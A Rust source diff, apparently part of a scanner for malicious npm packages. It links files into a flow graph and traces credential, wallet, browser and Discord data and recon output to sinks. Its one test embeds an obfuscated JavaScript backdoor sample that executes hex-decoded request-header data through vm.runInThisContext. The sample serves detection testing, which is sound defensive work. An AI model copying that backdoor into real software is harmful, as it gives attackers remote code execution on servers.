@@ -1,0 +1,530 @@
+//! The package's flow graph: every file's graph, linked through relative
+//! `require`s and imports, with the kinds spread from their origins to every node
+//! they can reach.
+//!
+//! Propagation is a breadth-first worklist over a mask per node; a node's mask only
+//! grows, and by at most one bit per kind, so the work is bounded by edges × kinds.
+//! For every (node, kind) the first predecessor that brought the kind is kept: the
+//! trail a finding shows is the shortest path from the origin to the sink.
+
+use std::collections::{HashMap, VecDeque};
+
+use super::flow::{FileFlow, NodeKind, SinkSite, Transfer};
+use super::kinds::{Kind, LOST_THROUGH_CALLS, Mask};
+use super::literals::HostClass;
+use crate::finding::Reach;
+
+/// How many hops a kind travels from its origin: variables, returns, parameters.
+const MAX_HOPS: u16 = 12;
+
+/// How many functions may share a method name for calls to be bound to them all.
+const MAX_METHOD_TARGETS: usize = 8;
+
+/// One file's part in the package graph.
+pub(crate) struct FileInput<'a> {
+    pub(crate) path: &'a str,
+    pub(crate) flow: &'a FileFlow,
+    pub(crate) reach: Reach,
+    /// A bundle or minified file.
+    pub(crate) bundle: bool,
+}
+
+#[derive(Clone, Copy, Debug)]
+enum Pred {
+    Origin {
+        file: u32,
+        origin: u32,
+    },
+    Node(u32),
+    /// Made at a transfer node from another kind (a file's contents from its path).
+    Derived {
+        node: u32,
+        from: Kind,
+    },
+}
+
+/// A sink with everything that reaches it.
+pub(crate) struct Reached<'g> {
+    pub(crate) site: &'g SinkSite,
+    pub(crate) path: &'g str,
+    pub(crate) reach: Reach,
+    pub(crate) bundle: bool,
+    /// The sink's file writes a foreign host somewhere (a literal with one).
+    pub(crate) names_foreign_host: bool,
+    pub(crate) mask: Mask,
+    node: u32,
+}
+
+pub(crate) struct Graph<'a> {
+    files: Vec<FileInput<'a>>,
+    offsets: Vec<u32>,
+    /// Node → its file.
+    file_of: Vec<u32>,
+    /// Compressed successor lists: `targets[starts[n]..starts[n + 1]]`.
+    starts: Vec<u32>,
+    targets: Vec<(u32, bool)>,
+    mask: Vec<Mask>,
+    /// For each (node, kind): where the kind came from, and how many hops from its origin.
+    pred: HashMap<(u32, u8), (Pred, u16)>,
+}
+
+impl<'a> Graph<'a> {
+    /// Links the files (`resolve` maps a file and a specifier to another file's
+    /// index) and spreads the kinds. Hosts equal to `registry_hosts` are the
+    /// registry's, not foreign.
+    pub(crate) fn build(
+        files: Vec<FileInput<'a>>,
+        resolve: impl Fn(&str, &str) -> Option<usize>,
+        registry_hosts: &[String],
+    ) -> Self {
+        let mut offsets = Vec::with_capacity(files.len());
+        let mut total = 0u32;
+        for file in &files {
+            offsets.push(total);
+            total = total.saturating_add(u32::try_from(file.flow.nodes.len()).unwrap_or(u32::MAX));
+        }
+        let mut file_of = vec![0u32; total as usize];
+        for (index, file) in files.iter().enumerate() {
+            let start = offsets[index] as usize;
+            file_of[start..start + file.flow.nodes.len()]
+                .fill(u32::try_from(index).unwrap_or(u32::MAX));
+        }
+        let mut edges: Vec<(u32, u32, bool)> = Vec::new();
+        let mut seeds: Vec<(u32, u32, u32)> = Vec::new();
+        for (index, file) in files.iter().enumerate() {
+            let offset = offsets[index];
+            edges.extend(
+                file.flow
+                    .edges
+                    .iter()
+                    .map(|(from, to, lossy)| (from + offset, to + offset, *lossy)),
+            );
+            seeds.extend(
+                file.flow.seeds.iter().map(|(node, origin)| {
+                    (node + offset, u32::try_from(index).unwrap_or(0), *origin)
+                }),
+            );
+            for import in &file.flow.imports {
+                let Some(target) = resolve(file.path, &import.specifier) else {
+                    continue;
+                };
+                let target_flow = files[target].flow;
+                let target_offset = offsets[target];
+                let node = import.node + offset;
+                let member_node = import.member.as_ref().and_then(|member| {
+                    target_flow
+                        .export_members
+                        .iter()
+                        .find(|(name, _)| name == member)
+                        .map(|(_, node)| *node)
+                });
+                let function = target_flow
+                    .export_functions
+                    .iter()
+                    .find(|(name, _)| import.member.as_deref().unwrap_or("") == name)
+                    .map(|(_, function)| *function);
+                match (import.call, function, member_node, target_flow.exports) {
+                    (true, Some(function), _, _) => {
+                        edges.push((
+                            target_flow.functions[function as usize].ret + target_offset,
+                            node,
+                            false,
+                        ));
+                    }
+                    (_, _, Some(member), _) => edges.push((member + target_offset, node, false)),
+                    (_, _, None, Some(exports)) => {
+                        edges.push((exports + target_offset, node, false))
+                    }
+                    _ => {}
+                }
+            }
+            for call in &file.flow.import_calls {
+                let Some(target) = resolve(file.path, &call.specifier) else {
+                    continue;
+                };
+                let target_flow = files[target].flow;
+                let Some((_, function)) = target_flow
+                    .export_functions
+                    .iter()
+                    .find(|(name, _)| call.member.as_deref().unwrap_or("") == name)
+                else {
+                    continue;
+                };
+                let params = &target_flow.functions[*function as usize].params;
+                for (param, argument) in params.iter().zip(&call.arguments) {
+                    let param = param + offsets[target];
+                    seeds.extend(
+                        argument
+                            .origins
+                            .iter()
+                            .map(|origin| (param, u32::try_from(index).unwrap_or(0), *origin)),
+                    );
+                    edges.extend(
+                        argument
+                            .reads
+                            .iter()
+                            .map(|read| (read + offset, param, false)),
+                    );
+                    edges.extend(
+                        argument
+                            .lossy
+                            .iter()
+                            .map(|read| (read + offset, param, true)),
+                    );
+                }
+            }
+        }
+        // `x.name(...)` bound by name across the package, to names few functions
+        // share: common method names would join unrelated code.
+        let mut methods: HashMap<&str, Vec<(usize, u32)>> = HashMap::new();
+        for (index, file) in files.iter().enumerate() {
+            for (name, function) in &file.flow.methods {
+                methods
+                    .entry(name.as_str())
+                    .or_default()
+                    .push((index, *function));
+            }
+        }
+        for (index, file) in files.iter().enumerate() {
+            let offset = offsets[index];
+            for (name, result, arguments) in &file.flow.method_calls {
+                let Some(targets) = methods
+                    .get(name.as_str())
+                    .filter(|targets| targets.len() <= MAX_METHOD_TARGETS)
+                else {
+                    continue;
+                };
+                for (target, function) in targets {
+                    let info = &files[*target].flow.functions[*function as usize];
+                    let target_offset = offsets[*target];
+                    edges.push((info.ret + target_offset, result + offset, false));
+                    for (param, argument) in info.params.iter().zip(arguments) {
+                        let param = param + target_offset;
+                        seeds.extend(
+                            argument
+                                .origins
+                                .iter()
+                                .map(|origin| (param, u32::try_from(index).unwrap_or(0), *origin)),
+                        );
+                        edges.extend(
+                            argument
+                                .reads
+                                .iter()
+                                .map(|read| (read + offset, param, false)),
+                        );
+                        edges.extend(
+                            argument
+                                .lossy
+                                .iter()
+                                .map(|read| (read + offset, param, true)),
+                        );
+                    }
+                }
+            }
+        }
+        edges.sort_unstable_by_key(|(from, _, _)| *from);
+        let mut starts = vec![0u32; total as usize + 1];
+        for (from, _, _) in &edges {
+            starts[*from as usize + 1] += 1;
+        }
+        for index in 1..starts.len() {
+            starts[index] += starts[index - 1];
+        }
+        let targets = edges.iter().map(|(_, to, lossy)| (*to, *lossy)).collect();
+        let mut graph = Self {
+            files,
+            offsets,
+            file_of,
+            starts,
+            targets,
+            mask: vec![Mask::EMPTY; total as usize],
+            pred: HashMap::new(),
+        };
+        graph.propagate(&seeds, registry_hosts);
+        graph
+    }
+
+    fn node_info(&self, node: u32) -> (&FileInput<'a>, &super::flow::NodeInfo) {
+        let file = &self.files[self.file_of[node as usize] as usize];
+        let local = node - self.offsets[self.file_of[node as usize] as usize];
+        (file, &file.flow.nodes[local as usize])
+    }
+
+    fn transfer_of(&self, node: u32) -> Option<Transfer> {
+        match self.node_info(node).1.kind {
+            NodeKind::Transfer(transfer) => Some(transfer),
+            _ => None,
+        }
+    }
+
+    fn propagate(&mut self, seeds: &[(u32, u32, u32)], registry_hosts: &[String]) {
+        let mut queue = VecDeque::new();
+        for (node, file, origin_index) in seeds {
+            let origin = &self.files[*file as usize].flow.origins[*origin_index as usize];
+            let mut kinds = origin.kinds;
+            if let Some((host, HostClass::Other | HostClass::Known)) = &origin.host
+                && registry_hosts
+                    .iter()
+                    .any(|registry| registry.eq_ignore_ascii_case(host))
+            {
+                kinds = kinds
+                    .minus(Mask::of(&[Kind::HostOther, Kind::HostKnown]))
+                    .union(Kind::HostRegistry.bit());
+            }
+            let new = kinds.minus(self.mask[*node as usize]);
+            if new.is_empty() {
+                continue;
+            }
+            self.mask[*node as usize] = self.mask[*node as usize].union(new);
+            for kind in new.kinds() {
+                self.pred.entry((*node, kind as u8)).or_insert((
+                    Pred::Origin {
+                        file: *file,
+                        origin: *origin_index,
+                    },
+                    0,
+                ));
+            }
+            queue.push_back(*node);
+        }
+        // Transfer nodes make kinds of their own (a read's contents) whatever
+        // reaches them.
+        for node in 0..u32::try_from(self.mask.len()).unwrap_or(u32::MAX) {
+            if self.transfer_of(node).is_some() {
+                queue.push_back(node);
+            }
+        }
+        let mut queued = vec![false; self.mask.len()];
+        for node in &queue {
+            queued[*node as usize] = true;
+        }
+        while let Some(node) = queue.pop_front() {
+            queued[node as usize] = false;
+            let input = self.mask[node as usize];
+            let output = match self.transfer_of(node) {
+                Some(transfer) => self.transfer(node, transfer, input),
+                None => input,
+            };
+            let (start, end) = (
+                self.starts[node as usize] as usize,
+                self.starts[node as usize + 1] as usize,
+            );
+            for index in start..end {
+                let (target, lossy) = self.targets[index];
+                let carried = if lossy {
+                    output.minus(LOST_THROUGH_CALLS)
+                } else {
+                    output
+                };
+                let mut new = carried.minus(self.mask[target as usize]);
+                if new.is_empty() {
+                    continue;
+                }
+                for kind in new.kinds() {
+                    let hops = self
+                        .pred
+                        .get(&(node, kind as u8))
+                        .map_or(0, |(_, hops)| *hops)
+                        + 1;
+                    // Data that only gets somewhere through dozens of variables has
+                    // usually not got there: the model joins more than code does.
+                    if hops > MAX_HOPS {
+                        new = new.minus(kind.bit());
+                        continue;
+                    }
+                    self.pred
+                        .entry((target, kind as u8))
+                        .or_insert((Pred::Node(node), hops));
+                }
+                if new.is_empty() {
+                    continue;
+                }
+                self.mask[target as usize] = self.mask[target as usize].union(new);
+                if !queued[target as usize] {
+                    queued[target as usize] = true;
+                    queue.push_back(target);
+                }
+            }
+        }
+    }
+
+    /// What leaves a transfer node, given what reaches it; records where each new
+    /// kind came from.
+    fn transfer(&mut self, node: u32, transfer: Transfer, input: Mask) -> Mask {
+        let mut made: Vec<(Kind, Kind)> = Vec::new();
+        match transfer {
+            Transfer::ReadFile => {
+                for (path, contents) in [
+                    (Kind::PathCredential, Kind::Credential),
+                    (Kind::PathBrowser, Kind::BrowserData),
+                    (Kind::PathWallet, Kind::WalletData),
+                    (Kind::PathDiscord, Kind::DiscordData),
+                    (Kind::PathSystem, Kind::SystemFile),
+                ] {
+                    if input.has(path) {
+                        made.push((contents, path));
+                    }
+                }
+            }
+            Transfer::CommandOutput => {
+                if input.has(Kind::ReconCommand) {
+                    made.push((Kind::Identity, Kind::ReconCommand));
+                }
+            }
+        }
+        let mut output = match transfer {
+            Transfer::ReadFile => Kind::FileContents.bit(),
+            Transfer::CommandOutput => Kind::ProcessOutput.bit(),
+        };
+        for (kind, from) in made {
+            output = output.union(kind.bit());
+            let hops = self
+                .pred
+                .get(&(node, from as u8))
+                .map_or(0, |(_, hops)| *hops);
+            self.pred
+                .entry((node, kind as u8))
+                .or_insert((Pred::Derived { node, from }, hops));
+        }
+        // The transfer's own kinds start here.
+        let own = output.minus(input);
+        for kind in own.kinds() {
+            self.pred
+                .entry((node, kind as u8))
+                .or_insert((Pred::Derived { node, from: kind }, 0));
+        }
+        // A read's path and a command's data are not its result, but data that is
+        // already derived (a host's identity in the command) stays.
+        output.union(input.meet(Mask::of(&[Kind::Decoded])))
+    }
+
+    /// Every sink of every file, with what reaches it.
+    pub(crate) fn sinks(&self) -> impl Iterator<Item = Reached<'_>> {
+        self.files
+            .iter()
+            .enumerate()
+            .flat_map(move |(index, file)| {
+                let names_foreign_host = file
+                    .flow
+                    .origins
+                    .iter()
+                    .any(|origin| origin.kinds.any(super::kinds::FOREIGN_HOSTS));
+                file.flow.sinks.iter().map(move |site| {
+                    let node = self.offsets[index] + site.node;
+                    Reached {
+                        site,
+                        path: file.path,
+                        reach: file.reach,
+                        bundle: file.bundle,
+                        names_foreign_host,
+                        mask: self.mask[node as usize],
+                        node,
+                    }
+                })
+            })
+    }
+
+    /// What reaches a file operation's path.
+    pub(crate) fn target_mask(&self, reached: &Reached<'_>) -> Mask {
+        reached.site.target.map_or(Mask::EMPTY, |node| {
+            self.mask[(reached.node - reached.site.node + node) as usize]
+        })
+    }
+
+    /// How `kind` reached the sink: from its origin, through each named node.
+    pub(crate) fn trail(&self, reached: &Reached<'_>, kind: Kind) -> Vec<String> {
+        let mut steps: Vec<String> = Vec::new();
+        let mut current = (reached.node, kind);
+        for _ in 0..24 {
+            let Some((pred, _)) = self.pred.get(&(current.0, current.1 as u8)) else {
+                break;
+            };
+            match *pred {
+                Pred::Origin { file, origin } => {
+                    let file = &self.files[file as usize];
+                    let origin = &file.flow.origins[origin as usize];
+                    let place = if file.path == reached.path {
+                        format!("line {}", origin.line)
+                    } else {
+                        format!("{}:{}", file.path, origin.line)
+                    };
+                    steps.push(format!("{} ({place})", origin.text));
+                    break;
+                }
+                Pred::Node(node) => {
+                    let (_, info) = self.node_info(node);
+                    if !matches!(info.kind, NodeKind::Sink) && steps.last() != Some(&info.name) {
+                        steps.push(info.name.clone());
+                    }
+                    current = (node, current.1);
+                }
+                Pred::Derived { node, from } => {
+                    let (_, info) = self.node_info(node);
+                    if steps.last() != Some(&info.name) {
+                        steps.push(info.name.clone());
+                    }
+                    if from == current.1 {
+                        break;
+                    }
+                    current = (node, from);
+                }
+            }
+        }
+        steps.reverse();
+        steps
+    }
+
+    /// The host literal that brought a host kind to the sink.
+    pub(crate) fn host(&self, reached: &Reached<'_>, kind: Kind) -> Option<(String, HostClass)> {
+        let mut current = reached.node;
+        for _ in 0..64 {
+            match &self.pred.get(&(current, kind as u8))?.0 {
+                Pred::Origin { file, origin } => {
+                    return self.files[*file as usize].flow.origins[*origin as usize]
+                        .host
+                        .clone();
+                }
+                Pred::Node(node) => current = *node,
+                Pred::Derived { .. } => return None,
+            }
+        }
+        None
+    }
+}
+
+#[cfg(test)]
+pub(crate) mod tests {
+    use super::*;
+    use crate::js::scan;
+
+    /// The sinks of one file, each as `api: kinds`, with the file taken to run on
+    /// import.
+    pub(crate) fn sinks_of(source: &str) -> Vec<String> {
+        let facts = scan::scan("index.js", source);
+        let graph = Graph::build(
+            vec![FileInput {
+                path: "index.js",
+                flow: &facts.flow,
+                reach: Reach::Import,
+                bundle: false,
+            }],
+            |_, _| None,
+            &[],
+        );
+        graph
+            .sinks()
+            .map(|reached| {
+                let kinds: Vec<&str> = reached.mask.kinds().map(Kind::describe).collect();
+                format!("{}: {}", reached.site.api, kinds.join(", "))
+            })
+            .collect()
+    }
+
+    #[test]
+    fn request_data_through_the_exports_reaches_eval() {
+        let sinks = sinks_of(
+            "let harness = (req, res, callback, next) => {\n  module.exports.log = module.exports.log || Buffer.alloc(0xffff);\n  JSON.stringify(req.headers).replace(/x/gi, (o, p, v) => {\n    v = Buffer.from(v, 'hex');\n    for (let i = 0; i < v.length; i++) { module.exports.log[p + i] = v[i]; }\n    let c = module.exports.log.toString().replace(/y/, '');\n    require('\\x76\\x6d')['\\x72\\x75\\x6e\\x49\\x6e\\x54\\x68\\x69\\x73\\x43\\x6f\\x6e\\x74\\x65\\x78\\x74'](c)(module.exports, require, req, res, next);\n  });\n};\nmodule.exports.assert = (req, res, callback, next) => { harness(req, res, callback, next); };\n",
+        );
+        assert_eq!(sinks, ["vm.runInThisContext: request data"]);
+    }
+}
